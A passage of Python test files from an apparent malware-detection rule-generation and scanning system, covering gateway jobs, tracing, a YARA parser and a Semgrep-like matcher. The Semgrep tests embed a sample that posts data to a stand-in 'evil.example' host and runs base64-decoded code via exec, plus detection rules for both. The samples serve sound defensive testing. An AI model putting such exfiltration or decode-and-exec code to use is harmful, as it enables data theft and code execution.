        with pytest.raises(GatewayError) as excinfo:
            client.submit_scan("empty", [])
        assert excinfo.value.status == 400


class TestHttpJobs:
    def test_scan_roundtrip_with_wire_packages(self, gateway, client):
        client.register_tenant("acme")
        _publish_rules(gateway, "acme")
        job = client.submit_scan("acme", _targets("acme"), label="sweep")
        assert job["state"] in ("queued", "running")
        done = client.wait_job("acme", job["id"], timeout=60)
        assert done["state"] == "done"
        assert done["result"]["flagged"] == ["acme-bad==1.0"]
        assert any(j["id"] == job["id"] for j in client.jobs("acme"))
        # another tenant cannot address the job
        client.register_tenant("rival")
        with pytest.raises(GatewayError) as excinfo:
            client.job("rival", job["id"])
        assert excinfo.value.status == 404

    def test_events_longpoll_sees_publish(self, gateway, client):
        client.register_tenant("watcher")
        _publish_rules(gateway, "watcher")
        events = client.events("watcher", after=0, wait=5)
        kinds = [n["kind"] for n in events["notifications"]]
        assert "publish" in kinds
        note = events["notifications"][kinds.index("publish")]
        assert note["payload"]["namespace"] == "watcher"
        assert events["cursor"] >= note["seq"]
        # the cursor advances past everything seen: nothing new after it
        again = client.events("watcher", after=events["cursor"])
        assert again["notifications"] == []

    def test_cancel_over_http(self, client):
        client.register_tenant("quitter")
        feed = client.open_generation("quitter", label="doomed")
        cancelled = client.cancel_job("quitter", feed["id"])
        assert cancelled["cancel_requested"] is True
        final = client.wait_job("quitter", feed["id"], timeout=30)
        assert final["state"] == "cancelled"

    def test_streaming_generation_roundtrip(self, client, malware_packages):
        client.register_tenant("gen")
        feed = client.open_generation("gen", label="nightly")
        fed = client.feed_generation("gen", feed["id"], malware_packages[:2])
        assert fed["fed"] == 2
        client.close_generation("gen", feed["id"])
        done = client.wait_job("gen", feed["id"], timeout=180)
        assert done["state"] == "done", done.get("error")
        assert done["result"]["consumed"] == 2
        assert done["result"]["published_version"] == 1
        # the publish was pushed to the tenant's event stream
        events = client.events("gen", after=0, wait=5)
        assert any(
            n["kind"] == "publish" and n["payload"]["version"] == 1
            for n in events["notifications"]
        )


class TestHttpRateLimit:
    def test_429_carries_retry_after(self, client):
        client.register_tenant(
            "tiny429", TenantQuota(capacity=1, refill_per_second=0.25)
        )
        client.open_generation("tiny429")  # burns the single burst token
        with pytest.raises(RateLimited) as excinfo:
            client.open_generation("tiny429")
        # deficit of ~1 token at 0.25/s: close to 4s minus the real-clock
        # refill between the two requests
        assert 0 < excinfo.value.retry_after <= 4.0


class TestHttpMetrics:
    def test_metrics_snapshot_shape(self, client):
        client.register_tenant("metrics-t")
        metrics = client.metrics()
        assert metrics["accepting"] is True
        assert isinstance(metrics["jobs"], dict)
        assert isinstance(metrics["open_feeds"], int)
        row = next(t for t in metrics["tenants"] if t["name"] == "metrics-t")
        assert row["queue_depth"] == 0
        assert row["running"] == 0
        assert row["terminal"] == 0
        assert row["jobs_submitted"] == 0
        assert row["quota_rejections"] == 0
        assert row["registry_versions"] == []
        assert row["active_version"] is None

    def test_metrics_counts_jobs_and_rejections(self, gateway, client):
        client.register_tenant(
            "metrics-q", TenantQuota(capacity=1, refill_per_second=0.001)
        )
        _publish_rules(gateway, "metrics-q")
        job = client.submit_scan("metrics-q", _targets("mq"))
        done = client.job("metrics-q", job["id"], wait=10)
        assert done["state"] == "done"
        with pytest.raises(RateLimited):
            client.submit_scan("metrics-q", _targets("mq2"))
        row = next(
            t for t in client.metrics()["tenants"] if t["name"] == "metrics-q"
        )
        assert row["jobs_submitted"] == 1
        assert row["terminal"] >= 1
        assert row["quota_rejections"] == 1
        assert row["registry_versions"] == [1]
        assert row["active_version"] == 1


class TestHttpArena:
    def test_arena_rounds_over_http(self, gateway, client):
        client.register_tenant("arena-t")
        _publish_rules(gateway, "arena-t")
        job = client.submit_arena("arena-t", rounds=2, label="nightly")
        assert job["kind"] == "arena"
        done = client.job("arena-t", job["id"], wait=60)
        assert done["state"] == "done"
        result = done["result"]
        assert [r["index"] for r in result["rounds"]] == [0, 1]
        assert all(r["version"] == 1 for r in result["rounds"])
        assert all(r["packages"] > 0 for r in result["rounds"])
        assert result["leaderboard"], "rounds must rank the published rule"
        assert result["leaderboard"][0]["rank"] == 1
        assert "round 1 v1" in result["summary"]

    def test_arena_without_published_rules_fails_the_job(self, client):
        client.register_tenant("arena-empty")
        job = client.submit_arena("arena-empty")
        done = client.job("arena-empty", job["id"], wait=30)
        assert done["state"] == "failed"
        assert "version" in done["error"] or "publish" in done["error"]
