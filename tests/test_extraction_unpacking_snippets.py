"""Tests for unpacking and snippet extraction."""

import io
import tarfile
import zipfile

import pytest

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.extraction.snippets import extract_snippets, split_segments
from repro.extraction.unpacking import (
    load_package_from_directory,
    unpack_archive,
    write_package_to_directory,
)


def _demo_package():
    return Package(
        name="demo", version="1.2.3",
        metadata=PackageMetadata(name="demo", version="1.2.3"),
        files=[
            PackageFile("setup.py", "from setuptools import setup\nsetup()\n"),
            PackageFile("demo/__init__.py", "VALUE = 42\n"),
            PackageFile("PKG-INFO", "Name: demo\nVersion: 1.2.3\n"),
        ],
    )


def _make_tar(files):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, content in files:
            data = content.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _make_zip(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, content in files:
            archive.writestr(path, content)
    return buffer.getvalue()


def test_unpack_tar_archive():
    data = _make_tar([("pkg/setup.py", "setup()"), ("pkg/mod.py", "x = 1"), ("pkg/bin.dat", "\x00")])
    files = dict(unpack_archive(data))
    assert "pkg/setup.py" in files
    assert "pkg/mod.py" in files


def test_unpack_zip_archive():
    data = _make_zip([("pkg/setup.py", "setup()"), ("pkg/mod.py", "x = 1")])
    files = dict(unpack_archive(data))
    assert files["pkg/mod.py"] == "x = 1"


def test_unpack_garbage_raises():
    with pytest.raises(ValueError):
        unpack_archive(b"this is not an archive at all")


def test_write_and_load_package_roundtrip(tmp_path):
    pkg = _demo_package()
    root = write_package_to_directory(pkg, tmp_path)
    assert root.name == "demo-1.2.3"
    loaded = load_package_from_directory(root)
    assert loaded.name == "demo"
    assert loaded.version == "1.2.3"
    assert {f.path for f in loaded.files} >= {"setup.py", "demo/__init__.py", "PKG-INFO"}


def test_load_missing_directory_raises(tmp_path):
    with pytest.raises(FileNotFoundError):
        load_package_from_directory(tmp_path / "nope")


# -- snippets ---------------------------------------------------------------------

def test_split_segments_respects_length_bound():
    text = "line\n" * 500
    segments = split_segments(text, 512)
    assert all(len(segment) <= 512 + 121 for segment in segments)
    assert "".join(segments) == text


def test_split_segments_rejects_bad_length():
    with pytest.raises(ValueError):
        split_segments("abc", 0)


def test_split_segments_empty_text():
    assert split_segments("", 512) == []


def test_extract_snippets_covers_source_files():
    pkg = _demo_package()
    snippets = extract_snippets(pkg)
    assert {snippet.path for snippet in snippets} == {"setup.py", "demo/__init__.py"}
    assert all(snippet.package == pkg.identifier for snippet in snippets)
    assert all(snippet.text.strip() for snippet in snippets)
