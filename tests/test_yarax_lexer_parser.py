"""Tests for the YARA lexer and parser."""

import pytest

from repro.yarax import ast_nodes as ast
from repro.yarax.errors import YaraSyntaxError
from repro.yarax.lexer import tokenize
from repro.yarax.parser import parse_source

RULE = """
// a leading comment
import "pe"

rule demo_rule : tag1 tag2
{
    meta:
        description = "demo"
        score = 10
        active = true
    strings:
        $text = "hello world" nocase fullword
        $re = /https?:\\/\\/[a-z]+/
        $hex = { AB ?? CD [2-4] EF }
    condition:
        ($text and #re > 2) or any of ($hex, $re) or filesize < 100KB
}
"""


def test_tokenize_produces_eof_terminated_stream():
    tokens = tokenize('rule x { strings: $a = "v" condition: $a }')
    assert tokens[-1].type == "EOF"
    assert tokens[0].value == "rule"


def test_tokenize_tracks_line_numbers():
    tokens = tokenize("rule x\n{\n}")
    brace = [t for t in tokens if t.value == "{"][0]
    assert brace.line == 2


def test_tokenize_unterminated_string_raises():
    with pytest.raises(YaraSyntaxError):
        tokenize('rule x { strings: $a = "unterminated')


def test_tokenize_unterminated_regex_raises():
    with pytest.raises(YaraSyntaxError):
        tokenize("rule x { strings: $a = /abc")


def test_parse_full_rule_structure():
    rules = parse_source(RULE)
    assert len(rules) == 1
    rule = rules[0]
    assert rule.name == "demo_rule"
    assert rule.tags == ("tag1", "tag2")
    assert rule.meta == {"description": "demo", "score": 10, "active": True}
    assert [s.identifier for s in rule.strings] == ["$text", "$re", "$hex"]
    assert rule.strings[0].modifiers == ("nocase", "fullword")
    assert rule.strings[2].kind == ast.HEX
    assert rule.condition is not None


def test_parse_multiple_rules():
    source = 'rule a { strings: $x = "1" condition: $x }\nrule b { strings: $y = "2" condition: $y }'
    rules = parse_source(source)
    assert [r.name for r in rules] == ["a", "b"]


def test_parse_empty_source_raises():
    with pytest.raises(YaraSyntaxError):
        parse_source("   \n  ")


def test_parse_missing_brace_raises():
    with pytest.raises(YaraSyntaxError):
        parse_source('rule x { strings: $a = "v" condition: $a')


def test_parse_empty_strings_section_raises():
    with pytest.raises(YaraSyntaxError):
        parse_source("rule x { strings: condition: true }")


def test_parse_condition_operators():
    source = 'rule x { strings: $a = "1" $b = "2" condition: not $a and ($b or 2 of them) }'
    rule = parse_source(source)[0]
    assert isinstance(rule.condition, ast.AndExpr)


def test_parse_filesize_units():
    rule = parse_source('rule x { condition: filesize < 2MB }')[0]
    assert isinstance(rule.condition, ast.Comparison)
    assert rule.condition.right.value == 2 * 1024 * 1024


def test_referenced_strings_helper():
    rule = parse_source('rule x { strings: $a = "1" $b = "2" condition: $a and #b > 1 }')[0]
    assert ast.referenced_strings(rule.condition) == {"$a", "$b"}


def test_uses_them_helper():
    rule = parse_source('rule x { strings: $a = "1" condition: any of them }')[0]
    assert ast.uses_them(rule.condition)


def test_string_def_validation():
    with pytest.raises(ValueError):
        ast.StringDef("a", ast.TEXT, "missing dollar")
    with pytest.raises(ValueError):
        ast.StringDef("$a", "unknown-kind", "x")
    with pytest.raises(ValueError):
        ast.StringDef("$a", ast.TEXT, "x", modifiers=("bogus",))
