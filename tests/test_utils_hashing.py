"""Tests for repro.utils.hashing."""

import pytest

from repro.utils.hashing import content_signature, stable_digest, stable_hash


def test_stable_digest_is_deterministic():
    assert stable_digest("hello") == stable_digest("hello")


def test_stable_digest_differs_for_different_inputs():
    assert stable_digest("hello") != stable_digest("hello!")


def test_stable_hash_respects_bit_width():
    for bits in (1, 8, 16, 32, 64, 256):
        value = stable_hash("some text", bits=bits)
        assert 0 <= value < (1 << bits)


def test_stable_hash_rejects_invalid_bits():
    with pytest.raises(ValueError):
        stable_hash("x", bits=0)
    with pytest.raises(ValueError):
        stable_hash("x", bits=300)


def test_stable_hash_deterministic_across_calls():
    assert stable_hash("abc") == stable_hash("abc")
    assert stable_hash("abc") != stable_hash("abd")


def test_content_signature_order_insensitive():
    assert content_signature(["a", "b", "c"]) == content_signature(["c", "a", "b"])


def test_content_signature_content_sensitive():
    assert content_signature(["a", "b"]) != content_signature(["a", "b", "c"])


def test_content_signature_empty_iterable():
    assert content_signature([]) == content_signature([])
    assert isinstance(content_signature([]), str)
