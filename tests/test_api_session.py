"""The repro.api facade: sessions, stages, streaming feed, auto-publish."""

import threading

import pytest

from repro.api import (
    AlignStage,
    BoundedQueue,
    CraftStage,
    GenerationSession,
    PresetClusterStage,
    RefineStage,
    RuleLLMConfig,
    ScanService,
    ScanServiceConfig,
    group_stages,
)
from repro.core import RuleLLM
from repro.evaluation.detector import RuleScanner
from repro.evaluation.experiments import ExperimentSuite
from repro.corpus import DatasetConfig


def _rule_texts(rule_set):
    return [(rule.format, rule.name, rule.text) for rule in rule_set.rules]


# -- incremental generation ---------------------------------------------------------


class TestGenerationSession:
    def test_batched_feed_matches_one_shot(self, malware_packages, generated_rules):
        """Feeding in several batches changes nothing about the output."""
        session = GenerationSession(RuleLLMConfig.full())
        half = len(malware_packages) // 2
        assert session.add_batch(malware_packages[:half]) == 1
        assert session.add_batch(malware_packages[half:]) == 2
        assert session.pending_count == len(malware_packages)
        result = session.generate()
        assert result.batch_sizes == [half, len(malware_packages) - half]
        assert _rule_texts(result.rule_set) == _rule_texts(generated_rules)

    def test_failed_generate_restores_the_feed(self, malware_packages):
        """A stage crash must not lose the packages fed so far."""

        class Boom(Exception):
            pass

        class ExplodingStage:
            name = "boom"

            def run(self, context):
                raise Boom()

        session = GenerationSession(RuleLLMConfig.full(), stages=[ExplodingStage()])
        session.add_batch(malware_packages[:2])
        session.add_batch(malware_packages[2:5])
        with pytest.raises(Boom):
            session.generate()
        assert session.pending_count == 5
        assert session.pending_batches == 2

    def test_generate_clears_pending_feed(self, malware_packages):
        session = GenerationSession(RuleLLMConfig.full())
        session.add_batch(malware_packages[:2])
        session.generate()
        assert session.pending_count == 0
        empty = session.generate()
        assert len(empty.rule_set) == 0
        assert empty.info.package_count == 0

    def test_empty_batches_are_ignored(self):
        session = GenerationSession(RuleLLMConfig.full())
        assert session.add_batch([]) == 0
        assert session.pending_batches == 0

    def test_stage_timings_recorded(self, malware_packages):
        session = GenerationSession(RuleLLMConfig.full())
        session.add_batch(malware_packages[:4])
        result = session.generate()
        assert set(result.stage_seconds) == {"cluster", "craft", "refine", "align"}
        assert all(seconds >= 0 for seconds in result.stage_seconds.values())
        assert result.total_seconds > 0
        assert "packages" in result.describe()

    def test_results_history(self, malware_packages):
        session = GenerationSession(RuleLLMConfig.full())
        assert session.last_result is None
        session.add_batch(malware_packages[:2])
        first = session.generate()
        session.add_batch(malware_packages[2:4])
        second = session.generate()
        assert session.results == [first, second]
        assert session.last_result is second


# -- streaming feed -----------------------------------------------------------------


class TestQueueFeed:
    def test_consume_drains_until_closed(self, malware_packages):
        queue = BoundedQueue(max_items=4)  # smaller than the feed: backpressure
        session = GenerationSession(RuleLLMConfig.full())
        packages = malware_packages[:10]

        def feed() -> None:
            for package in packages:
                queue.put(package)
            queue.close()

        feeder = threading.Thread(target=feed)
        feeder.start()
        consumed = session.consume(queue, batch_size=3)
        feeder.join()
        assert consumed == len(packages)
        assert session.pending_count == len(packages)
        assert session.pending_batches >= 4  # 10 packages in batches of <= 3

    def test_consume_on_closed_empty_queue(self):
        queue = BoundedQueue()
        queue.close()
        session = GenerationSession(RuleLLMConfig.full())
        assert session.consume(queue) == 0

    def test_consume_drains_items_already_behind_a_close(self, malware_packages):
        """Items put just before close() must not be dropped."""
        queue = BoundedQueue()
        for package in malware_packages[:3]:
            queue.put(package)
        queue.close()
        session = GenerationSession(RuleLLMConfig.full())
        assert session.consume(queue, batch_size=2) == 3
        assert session.pending_count == 3

    def test_consume_rejects_bad_batch_size(self):
        session = GenerationSession(RuleLLMConfig.full())
        with pytest.raises(ValueError):
            session.consume(BoundedQueue(), batch_size=0)

    def test_bounded_queue_closed_property(self):
        queue = BoundedQueue()
        assert not queue.closed
        queue.close()
        assert queue.closed


# -- pluggable stages ---------------------------------------------------------------


class TestPluggableStages:
    def test_group_stages_match_legacy_group_api(self, malware_packages):
        packages = malware_packages[:2]
        legacy = RuleLLM(RuleLLMConfig.full()).generate_rules_for_group(
            packages, cluster_id=7
        )
        session = GenerationSession(RuleLLMConfig.full(), stages=group_stages(7))
        session.add_batch(packages)
        assert _rule_texts(session.generate().rule_set) == _rule_texts(legacy)

    def test_custom_stage_list_can_drop_stages(self, malware_packages):
        """A session runs whatever chain it is given (here: no refinement)."""
        stages = [PresetClusterStage(0), CraftStage(), RefineStage(), AlignStage()]
        session = GenerationSession(RuleLLMConfig.full(), stages=stages)
        session.add_batch(malware_packages[:2])
        result = session.generate()
        assert result.info.coarse_rule_count > 0
        assert result.info.alignment.total == result.info.refined_rule_count


# -- auto-publish into the scan registry --------------------------------------------


class TestAutoPublish:
    def test_incremental_batches_publish_and_scan_without_glue(
        self, malware_packages, small_dataset
    ):
        """The acceptance loop: >=2 incremental batches -> auto-publish ->
        the scan service picks the fresh version up with no manual registry
        call."""
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        session = GenerationSession(
            RuleLLMConfig.full(), registry=service.registry, label="session"
        )
        assert service.registry.current_version() is None

        half = len(malware_packages) // 2
        session.add_batch(malware_packages[:half])
        session.add_batch(malware_packages[half:])
        assert session.pending_batches == 2
        result = session.generate(label="wave-1")

        assert result.published
        assert result.version.version == 1
        assert service.registry.current_version() == 1

        batch = service.scan_batch(small_dataset.packages)
        assert batch.ruleset_version == result.version.version
        naive = RuleScanner(
            yara_rules=result.rule_set.compile_yara(),
            semgrep_rules=result.rule_set.compile_semgrep(),
        ).scan(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]

    def test_successive_generates_hot_swap_versions(self, malware_packages):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        session = GenerationSession(RuleLLMConfig.full(), registry=service.registry)
        session.add_batch(malware_packages[:3])
        first = session.generate()
        session.add_batch(malware_packages[3:6])
        second = session.generate()
        assert (first.version.version, second.version.version) == (1, 2)
        assert service.registry.current_version() == 2

    def test_no_publish_without_registry_or_rules(self, malware_packages):
        session = GenerationSession(RuleLLMConfig.full())
        session.add_batch(malware_packages[:2])
        assert session.generate().version is None
        bound = GenerationSession(
            RuleLLMConfig.full(),
            registry=ScanService().registry,
        )
        assert bound.generate().version is None  # nothing fed, nothing published


# -- back-compat --------------------------------------------------------------------


class TestBackCompat:
    def test_rulellm_wrapper_unchanged(self, malware_packages, generated_rules):
        """RuleLLM.generate_rules still yields the historical output."""
        rules = RuleLLM(RuleLLMConfig.full()).generate_rules(malware_packages)
        assert _rule_texts(rules) == _rule_texts(generated_rules)

    def test_experiment_suite_detections_identical(self, small_dataset, generated_rules):
        """experiments.py goes through the session API and detects identically."""
        suite = ExperimentSuite(DatasetConfig.small(), RuleLLMConfig.full())
        naive = RuleScanner(
            yara_rules=generated_rules.compile_yara(),
            semgrep_rules=generated_rules.compile_semgrep(),
        ).scan(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in suite.detection.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]
        assert suite.session_result.info.cluster_count > 0
