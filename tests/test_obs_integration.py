"""End-to-end observability: one traced gateway scan request must form a
single connected span tree across the HTTP thread, the async job queue,
executor threads and the scan service's chunked dispatch; the fleet
orchestrator must keep its shard threads on one trace; and per-rule
telemetry must aggregate correctly under process-shard dispatch."""

import pytest

from repro.api import ClusterShardPlan, GenerationOrchestrator, RuleLLMConfig
from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.gateway import GatewayConfig, ThreadedGateway
from repro.obs import configure_tracing, disable_tracing, get_registry, get_tracer
from repro.scanserve import ScanService, ScanServiceConfig
from repro.yarax import compile_source

NEEDLE = "obs_trace_needle"


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
    )


def _targets(prefix: str, count: int = 6) -> list[Package]:
    return [
        _pkg(f"{prefix}-{i}", f"x = '{NEEDLE}' + str({i})") for i in range(count)
    ]


def _rules():
    return compile_source(
        f'rule obs_rule {{ strings: $a = "{NEEDLE}" condition: $a }}'
    )


@pytest.fixture()
def traced():
    tracer = configure_tracing()
    yield tracer
    disable_tracing()


def _tree_is_connected(spans: list[dict]) -> bool:
    ids = {s["span_id"] for s in spans}
    roots = [s for s in spans if s["parent_id"] is None]
    return len(roots) == 1 and all(
        s["parent_id"] in ids for s in spans if s["parent_id"] is not None
    )


class TestGatewayTracePropagation:
    def test_traced_scan_request_is_one_connected_tree(self, traced):
        gateway = ThreadedGateway(GatewayConfig(workers=2)).start()
        try:
            client = gateway.client(timeout=30)
            client.register_tenant("traced")
            tenant = gateway.app.tenant("traced")
            tenant.service.config.shards = 2  # force chunked dispatch
            tenant.registry.publish(yara=_rules(), label="traced rules")

            job = client.submit_scan("traced", _targets("tr"))
            job = client.job("traced", job["id"], wait=30)
            assert job["state"] == "done"

            request_spans = [
                r for r in traced.spans()
                if r["name"] == "gateway.request"
                and r["attrs"].get("method") == "POST"
                and "/scan" in r["attrs"].get("path", "")
            ]
            assert len(request_spans) == 1
            trace_id = request_spans[0]["trace_id"]
            spans = traced.spans(trace_id=trace_id)

            # HTTP request -> async job -> scan batch -> per-chunk spans:
            # at least 6 spans, all on one trace, forming one tree rooted
            # at the HTTP request span
            assert len(spans) >= 6
            names = sorted(s["name"] for s in spans)
            assert names == [
                "gateway.request", "job.scan", "scan.batch",
                "scan.chunk", "scan.chunk", "scan.dispatch",
            ]
            assert _tree_is_connected(spans)
            (root,) = [s for s in spans if s["parent_id"] is None]
            assert root["name"] == "gateway.request"
            assert root["attrs"]["status"] == 202

            # the /trace endpoint serves the same records
            served = client.trace(trace_id)
            assert served["trace_id"] == trace_id
            assert len(served["spans"]) == len(spans)

            # Prometheus exposition and the legacy JSON coexist
            text = client.metrics_text()
            assert "# TYPE repro_scan_batches_total counter" in text
            assert 'repro_gateway_requests_total{method="POST",status="202"}' in text
            legacy = client.metrics()
            assert "jobs" in legacy and "tenants" in legacy
            snapshot = client.metrics_snapshot()
            assert "repro_gateway_jobs_total" in snapshot
        finally:
            gateway.stop()

    def test_untraced_requests_record_nothing(self):
        assert not get_tracer().enabled
        gateway = ThreadedGateway(GatewayConfig(workers=1)).start()
        try:
            client = gateway.client(timeout=30)
            client.register_tenant("quiet")
            before = len(get_tracer().spans())
            assert client.health()["ok"] is True
            assert len(get_tracer().spans()) == before
        finally:
            gateway.stop()


class TestFleetTracePropagation:
    def test_fleet_threads_share_one_trace(self, traced, malware_packages):
        orchestrator = GenerationOrchestrator(
            config=RuleLLMConfig.full(),
            plan=ClusterShardPlan(2),
            max_workers=2,
        )
        fleet = orchestrator.run(list(malware_packages), publish="none")
        assert fleet.shard_count >= 2

        spans = traced.spans()
        (fleet_span,) = [s for s in spans if s["name"] == "fleet.run"]
        trace = traced.spans(trace_id=fleet_span["trace_id"])
        # every shard ran on a pool thread yet stayed on the fleet's trace
        shard_spans = [s for s in trace if s["name"] == "fleet.shard"]
        assert len(shard_spans) == fleet.shard_count
        assert all(s["parent_id"] == fleet_span["span_id"] for s in shard_spans)
        shard_ids = {s["span_id"] for s in shard_spans}
        generate_spans = [s for s in trace if s["name"] == "session.generate"]
        assert len(generate_spans) == fleet.shard_count
        assert all(s["parent_id"] in shard_ids for s in generate_spans)
        assert {s["name"] for s in trace} >= {
            "fleet.run", "fleet.shard", "session.generate",
            "stage.cluster", "stage.craft", "stage.refine", "stage.align",
        }
        assert _tree_is_connected(trace)
        assert fleet_span["attrs"]["shards"] == fleet.shard_count


class TestProcessShardDispatch:
    def test_process_lane_spans_come_home(self, traced):
        service = ScanService(
            config=ScanServiceConfig(mode="process", shards=2, enable_cache=False)
        )
        service.publish(yara=_rules(), label="proc rules")
        batch = service.scan_batch(_targets("proc", count=8))
        assert batch.mode == "process"

        (batch_span,) = [
            s for s in traced.spans() if s["name"] == "scan.batch"
        ]
        trace = traced.spans(trace_id=batch_span["trace_id"])
        chunk_spans = [s for s in trace if s["name"] == "scan.chunk"]
        # workers have no tracer: their records ride back in the result
        # tuples and must still parent on this process's dispatch span
        assert len(chunk_spans) == 2
        assert sum(s["attrs"]["packages"] for s in chunk_spans) == 8
        assert _tree_is_connected(trace)

    def test_rule_telemetry_aggregates_across_process_shards(self):
        # regression pin: per-rule costs and ScanTimings looked like they
        # were dropped under process-shard chunked dispatch; they are in
        # fact shipped back per chunk and merged on the parent
        packages_before = (
            get_registry()
            .counter("repro_scan_packages_total")
            .labels()
            .value
        )
        service = ScanService(
            config=ScanServiceConfig(mode="process", shards=2, enable_cache=False)
        )
        service.publish(yara=_rules(), label="telemetry rules")
        batch = service.scan_batch(_targets("cost", count=8))
        assert batch.mode == "process"
        assert batch.packages == 8

        timings = batch.result.timings
        assert timings.packages == 8
        assert timings.total_seconds > 0.0
        assert timings.yara_seconds > 0.0

        top = service.top_slow_rules(5)
        assert top, "per-rule telemetry must survive process dispatch"
        (cost,) = [c for c in top if c.rule_key.endswith("obs_rule")]
        # every package contains the needle, so the atom prefilter sends
        # the rule to all 8 packages — across both process shards
        assert cost.evaluations == 8
        assert cost.total_seconds >= cost.max_seconds > 0.0
        assert cost.slowest_package.startswith("cost-")

        packages_after = (
            get_registry()
            .counter("repro_scan_packages_total")
            .labels()
            .value
        )
        assert packages_after == packages_before + 8
