"""Tests for repro.utils.text."""

from repro.utils.text import (
    count_loc,
    dedent_code,
    indent_block,
    normalize_whitespace,
    safe_identifier,
    split_lines_keepends,
    truncate_middle,
)


def test_dedent_code_strips_common_indent_and_leading_blank():
    code = """
        def f():
            return 1
    """
    result = dedent_code(code)
    assert result.startswith("def f():")
    assert "    return 1" in result


def test_normalize_whitespace_collapses_runs():
    assert normalize_whitespace("  a \t b\n\nc  ") == "a b c"


def test_truncate_middle_short_text_unchanged():
    assert truncate_middle("short", 100) == "short"


def test_truncate_middle_respects_max_length():
    text = "x" * 500
    result = truncate_middle(text, 101)
    assert len(result) <= 101
    assert " ... " in result


def test_truncate_middle_zero_length():
    assert truncate_middle("abc", 0) == ""


def test_truncate_middle_keeps_head_and_tail():
    text = "HEAD" + "-" * 200 + "TAIL"
    result = truncate_middle(text, 60)
    assert result.startswith("HEAD")
    assert result.endswith("TAIL")


def test_split_lines_keepends_roundtrip():
    text = "a\nb\r\nc"
    assert "".join(split_lines_keepends(text)) == text


def test_indent_block_skips_blank_lines():
    block = "a\n\nb"
    indented = indent_block(block, "  ")
    assert indented.splitlines() == ["  a", "", "  b"]


def test_count_loc_ignores_comments_and_blanks():
    source = "# comment\n\nx = 1\n   # another\ny = 2\n"
    assert count_loc(source) == 2


def test_safe_identifier_sanitises():
    assert safe_identifier("my-package.name") == "my_package_name"
    assert safe_identifier("1abc").startswith("_")
    assert safe_identifier("") == "_"
