"""Tests for the Semgrep-lite engine (patterns, loader, matcher, compiler)."""

import ast

import pytest

from repro.semgrepx import (
    Pattern,
    ScanTarget,
    SemgrepPatternError,
    SemgrepRule,
    SemgrepRuleBuilder,
    SemgrepRuleError,
    compile_yaml,
    dump_rules_yaml,
    load_rules_yaml,
    try_compile,
)

CODE = '''
import os
import base64
import requests


def exfiltrate(data):
    requests.post("https://evil.example/upload", json=data, timeout=5)


def run_payload(blob):
    exec(base64.b64decode(blob))


def helper(path):
    with open(path) as fh:
        return fh.read()
'''


def target():
    return ScanTarget.from_files("demo", [("demo.py", CODE)])


# -- pattern semantics -------------------------------------------------------------

def test_expression_pattern_matches_nested_call():
    pattern = Pattern("exec(base64.b64decode($X))")
    results = pattern.match_tree(ast.parse(CODE))
    assert results
    assert results[0].bindings["X"] == ast.dump(ast.Name(id="blob", ctx=ast.Load()))


def test_metavariable_consistency():
    pattern = Pattern("$F($X, $X)")
    assert pattern.match_tree(ast.parse("f(a, a)"))
    assert not pattern.match_tree(ast.parse("f(a, b)"))


def test_string_metavariable_binds_literal():
    pattern = Pattern('requests.post("$URL", ...)')
    results = pattern.match_tree(ast.parse(CODE))
    assert results and results[0].bindings["URL"].startswith("https://evil.example")


def test_ellipsis_in_arguments():
    pattern = Pattern("requests.post($URL, ...)")
    assert pattern.match_tree(ast.parse(CODE))


def test_keyword_argument_must_be_present():
    assert Pattern("requests.post($URL, json=$D, ...)").match_tree(ast.parse(CODE))
    assert not Pattern("requests.post($URL, data=$D, ...)").match_tree(ast.parse(CODE))


def test_statement_pattern_with_ellipsis():
    pattern = Pattern("with open($P) as $F:\n    ...")
    assert pattern.match_tree(ast.parse(CODE))


def test_import_pattern_subset_semantics():
    assert Pattern("import base64").match_tree(ast.parse(CODE))
    assert not Pattern("import socket").match_tree(ast.parse(CODE))


def test_invalid_pattern_raises():
    with pytest.raises(SemgrepPatternError):
        Pattern("def broken(:")
    with pytest.raises(SemgrepPatternError):
        Pattern("   ")


def test_anchors_provide_prefilter_terms():
    anchors = Pattern("requests.post($URL, ...)").anchors()
    assert "requests" in anchors or "post" in anchors


# -- rule schema and loader ------------------------------------------------------------

def test_rule_validation_errors():
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="", message="m", pattern="f()").validate()
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="", pattern="f()").validate()
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="m").validate()  # no pattern operator
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="m", pattern="f()", severity="CRITICAL").validate()


def test_loader_rejects_bad_documents():
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("")
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("not_rules: []")
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("rules: []")


def test_loader_rejects_duplicate_ids():
    text = """
rules:
  - id: same
    languages: [python]
    message: a
    pattern: f()
  - id: same
    languages: [python]
    message: b
    pattern: g()
"""
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml(text)


def test_builder_dump_load_roundtrip():
    rule = (SemgrepRuleBuilder("detect-thing", message="found a thing")
            .either_pattern("os.system($C)")
            .either_pattern("subprocess.run($C, shell=True, ...)")
            .meta("category", "execution")
            .build())
    text = dump_rules_yaml([rule])
    loaded = load_rules_yaml(text)
    assert loaded[0].id == "detect-thing"
    assert len(loaded[0].pattern_either) == 2


# -- compiled matching --------------------------------------------------------------------

def test_compile_and_match_pattern_either():
    yaml_text = """
rules:
  - id: detect-exfil
    languages: [python]
    severity: ERROR
    message: exfiltration
    pattern-either:
      - pattern: requests.post($URL, ...)
      - pattern: urllib.request.urlopen($R)
"""
